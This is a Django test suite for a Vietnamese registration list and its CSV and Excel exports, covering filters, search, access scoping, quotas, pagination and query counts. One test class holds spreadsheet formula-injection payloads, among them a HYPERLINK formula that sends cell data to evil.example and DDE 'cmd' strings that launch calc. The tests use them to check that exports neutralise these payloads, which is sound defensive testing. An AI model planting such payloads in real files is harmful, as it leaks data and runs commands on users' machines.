"""The registration list: filters, search, counts, quotas, pagination, exports
(scoped, formula-safe) and a constant number of queries."""

from __future__ import annotations

import csv
import io

from django.db import connection
from django.test import TestCase
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from campaign.exports import neutralise_cell
from campaign.planning.choices import ProgrammeKind, UnitKind
from campaign.planning.models import Phase
from campaign.planning.selectors.periods import current_year_of_programme
from campaign.registrations.choices import RegistrationStatus
from campaign.registrations.models import Registration
from tests.factories import Personas, UserFactory, reference_plan
from units.choices import OrganisationKind
from units.models import Area, Organisation
from units.text import fold

S = RegistrationStatus
LIST_URL = reverse("registrations:registration_list")


def export_url(fmt: str) -> str:
    return reverse("registrations:registration_export", kwargs={"fmt": fmt})


class Registry:
    """The plan, its phases, and a helper that records registrations directly."""

    def __init__(self, personas: Personas):
        self.p = personas
        plan = reference_plan()
        self.programme = plan.programmes.get(kind=ProgrammeKind.EXEMPLARY_UNITS)
        self.first, self.second = Phase.objects.filter(plan=plan).order_by("start_year")

    def register(
        self,
        committee,
        unit_name: str,
        *,
        area: Area | None = None,
        organisation: Organisation | None = None,
        unit_kind: str = UnitKind.WARD,
        year: int = 2023,
        status: str = S.DRAFT,
        contact_name: str = "Nguyễn Văn An",
        contact_phone: str = "0912 345 678",
    ) -> Registration:
        return Registration.objects.create(
            committee=committee,
            area=area,
            organisation=organisation,
            unit_kind=unit_kind,
            unit_name=unit_name,
            search_name=fold(unit_name),
            programme=self.programme,
            phase=self.first if year <= 2025 else self.second,
            year=year,
            contact_name=contact_name,
            contact_search=fold(contact_name),
            contact_phone=contact_phone,
            plan_summary="Tổ tự quản, camera an ninh.",
            status=status,
            created_by=self.p.staff,
            updated_by=self.p.staff,
        )

    def organisations(self, count: int, *, area_key: str = "ag89-883-30280"):
        area = Area.objects.get(key=area_key)
        return Organisation.objects.bulk_create(
            Organisation(
                name=f"Trường Tiểu học số {i}",
                kind=OrganisationKind.SCHOOL,
                area=area,
                managed_by=area.parent,
                search_name=fold(f"Trường Tiểu học số {i}"),
            )
            for i in range(count)
        )


def area(key: str) -> Area:
    return Area.objects.get(key=key)


class ListTestCase(TestCase):
    def get(self, user, url=LIST_URL, **params):
        self.client.force_login(user)
        return self.client.get(url, params)

    def names(self, response) -> list[str]:
        return [r.unit_name for r in response.context["page_obj"]]


class RegistrationListTests(ListTestCase):
    @classmethod
    def setUpTestData(cls):
        cls.p = Personas()
        cls.r = Registry(cls.p)
        a, b = cls.p.committee_a, cls.p.committee_b
        cls.r.register(
            a,
            "Phường Mỹ Bình",
            area=area("ag89-883-30280"),
            status=S.SUBMITTED,
            contact_name="Trần Thị Hoa",
        )
        cls.r.register(
            a,
            "Xã Mỹ Khánh",
            area=area("ag89-883-30310"),
            unit_kind=UnitKind.COMMUNE,
            year=2024,
            status=S.APPROVED,
        )
        cls.r.register(
            a, "Phường Mỹ Long", area=area("ag89-883-30283"), status=S.APPROVED
        )
        cls.r.register(b, "Phường Núi Sam", area=area("ag89-884-30325"))
        cls.r.register(
            b,
            "Xã Vĩnh Tế",
            area=area("ag89-884-30331"),
            unit_kind=UnitKind.COMMUNE,
            year=2026,
            status=S.RETURNED,
        )
        school = Organisation.objects.create(
            name="Trường THPT Thủ Khoa Nghĩa",
            kind=OrganisationKind.SCHOOL,
            area=area("ag89-884-30316"),
            managed_by=area("ag89-884"),
            search_name=fold("Trường THPT Thủ Khoa Nghĩa"),
        )
        cls.r.register(
            b,
            "Trường THPT Thủ Khoa Nghĩa",
            organisation=school,
            unit_kind=UnitKind.SCHOOL,
            status=S.APPROVED,
        )
        cls.outsider = UserFactory(username="ngoai")

    def test_staff_sees_every_registration_in_the_list_order(self):
        response = self.get(self.p.staff)
        self.assertEqual(response.status_code, 200)
        self.assertTemplateUsed(response, "registrations/registration_list.html")
        self.assertEqual(
            self.names(response),
            [
                "Xã Vĩnh Tế",  # 2026 first, then 2024, then 2023 by kind and name
                "Xã Mỹ Khánh",
                "Trường THPT Thủ Khoa Nghĩa",  # kinds in their stored order
                "Phường Mỹ Bình",
                "Phường Mỹ Long",
                "Phường Núi Sam",
            ],
        )
        self.assertEqual(response.context["total"], 6)

    def test_each_filter_narrows_the_list(self):
        cases = [
            ({"phase": self.r.second.pk}, {"Xã Vĩnh Tế"}),
            ({"year": 2024}, {"Xã Mỹ Khánh"}),
            ({"unit_kind": UnitKind.COMMUNE}, {"Xã Mỹ Khánh", "Xã Vĩnh Tế"}),
            ({"unit_kind": UnitKind.SCHOOL}, {"Trường THPT Thủ Khoa Nghĩa"}),
            (
                {"status": S.APPROVED},
                {"Xã Mỹ Khánh", "Phường Mỹ Long", "Trường THPT Thủ Khoa Nghĩa"},
            ),
            (
                {"locality": self.p.committee_b.pk},
                {"Phường Núi Sam", "Xã Vĩnh Tế", "Trường THPT Thủ Khoa Nghĩa"},
            ),
            (
                {"year": 2023, "status": S.APPROVED, "locality": self.p.committee_a.pk},
                {"Phường Mỹ Long"},
            ),
        ]
        for params, expected in cases:
            with self.subTest(params=params):
                response = self.get(self.p.staff, **params)
                self.assertEqual(set(self.names(response)), expected)
                self.assertEqual(response.context["total"], len(expected))

    def test_the_provincial_committee_as_locality_covers_its_district_committees(self):
        response = self.get(self.p.staff, locality=self.p.province_2023.pk)
        self.assertEqual(len(self.names(response)), 6)

    def test_search_ignores_accents_and_case(self):
        for query in ("phuong my binh", "my binh", "MỸ BÌNH", "  binh   phuong "):
            with self.subTest(query=query):
                response = self.get(self.p.staff, q=query)
                self.assertEqual(self.names(response), ["Phường Mỹ Bình"])

    def test_search_finds_the_contact_person_accents_ignored(self):
        for query in ("Trần Thị Hoa", "tran thi hoa", "THI HOA"):
            with self.subTest(query=query):
                response = self.get(self.p.staff, q=query)
                self.assertEqual(self.names(response), ["Phường Mỹ Bình"])

    def test_no_match_says_so(self):
        response = self.get(self.p.staff, q="khong co don vi nao")
        self.assertEqual(self.names(response), [])
        self.assertContains(response, 'role="status"')

    def test_counts_by_status_follow_the_filters(self):
        counts = dict(
            (value, count)
            for value, _label, count in self.get(self.p.staff).context["status_counts"]
        )
        self.assertEqual(
            counts,
            {S.DRAFT: 1, S.SUBMITTED: 1, S.RETURNED: 1, S.APPROVED: 3, S.WITHDRAWN: 0},
        )
        response = self.get(self.p.staff, locality=self.p.committee_a.pk)
        counts = {v: c for v, _label, c in response.context["status_counts"]}
        self.assertEqual(counts[S.APPROVED], 2)
        self.assertEqual(counts[S.DRAFT], 0)

    def test_quota_table_of_the_chosen_year(self):
        quotas = self.get(self.p.staff, year=2023).context["quotas"]
        self.assertEqual(quotas.year, 2023)
        rows = {row.unit_kind: row for row in quotas.rows}
        self.assertEqual(
            {kind: row.target for kind, row in rows.items()},
            {
                UnitKind.COMMUNE: 6,
                UnitKind.WARD: 2,
                UnitKind.TOWNSHIP: 2,
                UnitKind.AGENCY: 3,
                UnitKind.ENTERPRISE: 1,
                UnitKind.SCHOOL: 2,
            },
        )
        self.assertEqual(
            (rows[UnitKind.WARD].submitted, rows[UnitKind.WARD].approved), (1, 1)
        )
        self.assertEqual(rows[UnitKind.SCHOOL].approved, 1)
        self.assertEqual(quotas.total_target, 16)

    def test_quota_table_defaults_to_the_current_year_of_the_plan(self):
        response = self.get(self.p.staff)
        year = current_year_of_programme(self.r.programme)
        self.assertEqual(response.context["quotas"].year, year)
        self.assertContains(response, f'id="quota-heading-{year}"')

    def test_quota_table_is_shown_with_its_targets(self):
        response = self.get(self.p.staff, year=2023)
        self.assertContains(response, 'id="quota-heading-2023"')
        self.assertContains(response, '<th scope="row">', count=1)  # the total row

    def test_local_officer_sees_only_their_committees_registrations(self):
        response = self.get(self.p.officer_a)
        self.assertEqual(
            set(self.names(response)),
            {"Phường Mỹ Bình", "Xã Mỹ Khánh", "Phường Mỹ Long"},
        )
        self.assertEqual(response.context["total"], 3)
        counts = {v: c for v, _label, c in response.context["status_counts"]}
        self.assertEqual(sum(counts.values()), 3)
        self.assertNotContains(response, "Núi Sam")

    def test_local_officer_cannot_filter_their_way_into_another_locality(self):
        response = self.get(self.p.officer_a, locality=self.p.committee_b.pk)
        self.assertEqual(response.status_code, 200)
        self.assertEqual(self.names(response), [])
        self.assertEqual(response.context["total"], 0)
        self.assertIn("locality", response.context["form"].errors)

    def test_locality_choices_are_the_committees_the_user_may_see(self):
        form = self.get(self.p.officer_a).context["form"]
        offered = {
            value
            for _group, choices in form.fields["locality"].choices[1:]
            for value, _label in choices
        }
        self.assertIn(self.p.committee_a.pk, offered)
        self.assertNotIn(self.p.committee_b.pk, offered)

    def test_invalid_filters_show_nothing_rather_than_failing(self):
        for params in ({"year": "abc"}, {"status": "xx"}, {"phase": "999999"}):
            with self.subTest(params=params):
                response = self.get(self.p.staff, **params)
                self.assertEqual(response.status_code, 200)
                self.assertEqual(self.names(response), [])

    def test_register_button_only_for_those_who_may(self):
        create_url = reverse("registrations:registration_create")
        self.assertContains(self.get(self.p.officer_a), create_url)
        self.assertNotContains(self.get(self.p.leader), create_url)
        self.assertContains(
            self.get(self.p.leader), reverse("registrations:registration_waiting")
        )

    def test_export_links_keep_the_filters_but_not_the_page(self):
        response = self.get(self.p.staff, year=2023, q="my", page=1)
        content = response.content.decode()
        self.assertIn(f'{export_url("csv")}?year=2023&amp;q=my"', content)
        self.assertIn(f'{export_url("xlsx")}?year=2023&amp;q=my"', content)

    def test_user_without_membership_is_refused(self):
        self.assertEqual(self.get(self.outsider).status_code, 403)
        self.assertEqual(self.get(self.outsider, export_url("csv")).status_code, 403)

    def test_anonymous_user_is_sent_to_log_in(self):
        for url in (LIST_URL, export_url("csv"), export_url("xlsx")):
            with self.subTest(url=url):
                response = self.client.get(url)
                self.assertEqual(response.status_code, 302)
                self.assertIn(reverse("login"), response["Location"])

    def test_it_rejects_post(self):
        self.client.force_login(self.p.staff)
        self.assertEqual(self.client.post(LIST_URL).status_code, 405)
        self.assertEqual(self.client.post(export_url("csv")).status_code, 405)


def csv_rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf"), "UTF-8 byte order mark"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def xlsx_rows(response) -> list[tuple]:
    workbook = load_workbook(
        io.BytesIO(b"".join(response.streaming_content)), read_only=True
    )
    return list(workbook.worksheets[0].iter_rows(values_only=True))


class RegistrationExportTests(ListTestCase):
    @classmethod
    def setUpTestData(cls):
        cls.p = Personas()
        cls.r = Registry(cls.p)
        cls.mine = cls.r.register(
            cls.p.committee_a,
            "Phường Mỹ Bình",
            area=area("ag89-883-30280"),
            status=S.APPROVED,
            contact_name="Trần Thị Hoa",
            contact_phone="0296 3852 123",
        )
        cls.r.register(cls.p.committee_a, "Phường Mỹ Long", area=area("ag89-883-30283"))
        cls.theirs = cls.r.register(
            cls.p.committee_b, "Phường Núi Sam", area=area("ag89-884-30325")
        )

    def test_csv_is_utf8_with_bom_vietnamese_headers_and_an_attachment(self):
        response = self.get(self.p.staff, export_url("csv"))
        self.assertEqual(response.status_code, 200)
        self.assertEqual(response["Content-Type"], "text/csv; charset=utf-8")
        self.assertRegex(
            response["Content-Disposition"],
            r'^attachment; filename="dang-ky-dien-hinh-\d{8}\.csv"$',
        )
        self.assertIn("no-store", response["Cache-Control"])
        rows = csv_rows(response)
        self.assertEqual(len(rows[0]), 11)
        self.assertIn("Năm", rows[0])
        self.assertIn("Trạng thái", rows[0])
        self.assertEqual(len(rows), 4)
        row = next(r for r in rows if r[0] == str(self.mine.pk))
        self.assertEqual(row[1:5], ["2023", "2023–2025", "Phường", "Phường Mỹ Bình"])
        self.assertEqual(row[5], self.p.committee_a.short_name)
        self.assertEqual(row[6:8], ["Trần Thị Hoa", "0296 3852 123"])

    def test_headers_and_labels_follow_the_language(self):
        self.client.force_login(self.p.staff)
        response = self.client.get("/en" + export_url("csv"))
        rows = csv_rows(response)
        self.assertIn("Year", rows[0])
        self.assertIn("Status", rows[0])
        row = next(r for r in rows if r[0] == str(self.mine.pk))
        self.assertEqual((row[3], row[8]), ("Ward", "Approved"))

    def test_xlsx_opens_and_holds_the_filtered_list(self):
        response = self.get(self.p.staff, export_url("xlsx"), q="my binh")
        self.assertEqual(response.status_code, 200)
        self.assertEqual(
            response["Content-Type"],
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        )
        self.assertRegex(
            response["Content-Disposition"], r'^attachment; filename="[\w.-]+\.xlsx"$'
        )
        rows = xlsx_rows(response)
        self.assertIn("Năm", rows[0])
        self.assertEqual(len(rows), 2)
        self.assertEqual(rows[1][0], self.mine.pk)
        self.assertEqual(rows[1][4], "Phường Mỹ Bình")

    def test_xlsx_reads_well_bold_frozen_filtered_header_and_wide_columns(self):
        response = self.get(self.p.staff, export_url("xlsx"))
        self.assertIn("dang-ky-dien-hinh-", response["Content-Disposition"])
        sheet = load_workbook(
            io.BytesIO(b"".join(response.streaming_content))
        ).worksheets[0]
        self.assertTrue(all(cell.font.bold for cell in sheet[1]))
        self.assertFalse(sheet["A2"].font.bold)
        self.assertEqual(sheet.freeze_panes, "A2")
        self.assertEqual(sheet.auto_filter.ref, f"A1:K{sheet.max_row}")
        self.assertGreaterEqual(sheet.column_dimensions["E"].width, 30)  # the unit
        self.assertGreaterEqual(sheet.column_dimensions["F"].width, 30)

    def test_exports_apply_the_same_filters_as_the_list(self):
        response = self.get(self.p.staff, export_url("csv"), status=S.DRAFT)
        names = {row[4] for row in csv_rows(response)[1:]}
        self.assertEqual(names, {"Phường Mỹ Long", "Phường Núi Sam"})

    def test_local_officer_exports_only_their_committees_registrations(self):
        csv_names = {
            row[4]
            for row in csv_rows(self.get(self.p.officer_a, export_url("csv")))[1:]
        }
        xlsx_names = {
            row[4]
            for row in xlsx_rows(self.get(self.p.officer_a, export_url("xlsx")))[1:]
        }
        self.assertEqual(csv_names, {"Phường Mỹ Bình", "Phường Mỹ Long"})
        self.assertEqual(xlsx_names, csv_names)
        csv_names = {
            row[4]
            for row in csv_rows(self.get(self.p.officer_b, export_url("csv")))[1:]
        }
        self.assertEqual(csv_names, {"Phường Núi Sam"})

    def test_local_officer_cannot_export_another_locality_by_filter(self):
        response = self.get(
            self.p.officer_a, export_url("xlsx"), locality=self.p.committee_b.pk
        )
        self.assertEqual(len(xlsx_rows(response)), 1)  # the header only

    def test_unknown_format_is_404(self):
        for fmt in ("pdf", "CSV", "xls", "json"):
            with self.subTest(fmt=fmt):
                self.assertEqual(
                    self.get(self.p.staff, export_url(fmt)).status_code, 404
                )


class FormulaInjectionTests(ListTestCase):
    PAYLOADS = [
        '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
        "+cmd|' /C calc'!A0",
        "-1+1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
    ]

    @classmethod
    def setUpTestData(cls):
        cls.p = Personas()
        cls.r = Registry(cls.p)
        keys = [
            "ag89-883-30286",
            "ag89-883-30285",
            "ag89-883-30295",
            "ag89-883-30298",
            "ag89-883-30301",
        ]
        for key, payload in zip(keys, cls.PAYLOADS, strict=True):
            cls.r.register(
                cls.p.committee_a, payload, area=area(key), contact_name=payload
            )

    def test_neutralise_cell(self):
        for payload in self.PAYLOADS:
            self.assertEqual(neutralise_cell(payload), "'" + payload)
        for safe in ("Phường Mỹ Bình", "0912 345 678", "", 42, None, "a=b"):
            self.assertEqual(neutralise_cell(safe), safe)

    def test_csv_cells_cannot_start_a_formula(self):
        rows = csv_rows(self.get(self.p.staff, export_url("csv")))[1:]
        self.assertEqual(len(rows), len(self.PAYLOADS))
        self.assertEqual(
            {row[4] for row in rows}, {"'" + payload for payload in self.PAYLOADS}
        )
        self.assertEqual({row[6] for row in rows}, {row[4] for row in rows})

    def test_xlsx_cells_are_text_not_formulas(self):
        response = self.get(self.p.staff, export_url("xlsx"))
        workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
        sheet = workbook.worksheets[0]
        cells = [c for row in sheet.iter_rows(min_row=2) for c in (row[4], row[6])]
        self.assertEqual(len(cells), 2 * len(self.PAYLOADS))
        for cell in cells:
            self.assertEqual(cell.data_type, "s")
            self.assertTrue(cell.value.startswith("'"), cell.value)
        self.assertEqual(
            {cell.value for cell in cells}, {"'" + payload for payload in self.PAYLOADS}
        )


class ListQueriesTests(ListTestCase):
    @classmethod
    def setUpTestData(cls):
        cls.p = Personas()
        cls.r = Registry(cls.p)
        cls.schools = cls.r.organisations(60)

    def add(self, count: int, start: int = 0) -> None:
        statuses = list(S)
        for i, school in enumerate(self.schools[start : start + count]):
            self.r.register(
                self.p.committee_a,
                school.name,
                organisation=school,
                unit_kind=UnitKind.SCHOOL,
                status=statuses[i % len(statuses)],
            )

    def queries(self, user, **params) -> int:
        self.client.force_login(user)
        with CaptureQueriesContext(connection) as captured:
            response = self.client.get(LIST_URL, params)
        self.assertEqual(response.status_code, 200)
        return len(captured)

    def test_the_list_runs_the_same_number_of_queries_with_5_and_50_registrations(self):
        self.add(5)
        few = {
            user.username: self.queries(user)
            for user in (self.p.staff, self.p.officer_a)
        }
        few_filtered = self.queries(self.p.staff, q="tieu hoc", year=2023)
        self.add(45, start=5)
        self.assertEqual(Registration.objects.count(), 50)
        many = {
            user.username: self.queries(user)
            for user in (self.p.staff, self.p.officer_a)
        }
        self.assertEqual(many, few)
        self.assertEqual(
            self.queries(self.p.staff, q="tieu hoc", year=2023), few_filtered
        )

    def test_a_page_beyond_the_last_shows_the_last_page(self):
        self.add(60)
        self.client.force_login(self.p.staff)
        for page in ("999", "2", "-1", "abc"):
            with self.subTest(page=page):
                response = self.client.get(LIST_URL, {"page": page})
                self.assertEqual(response.status_code, 200)
        response = self.client.get(LIST_URL, {"page": "999"})
        page_obj = response.context["page_obj"]
        self.assertEqual((page_obj.number, page_obj.paginator.num_pages), (2, 2))
        self.assertEqual(len(page_obj.object_list), 10)
        self.assertEqual(page_obj.paginator.count, 60)
        first = self.client.get(LIST_URL).context["page_obj"]
        self.assertEqual(len(first.object_list), 50)
        self.assertContains(response, "?page=1")
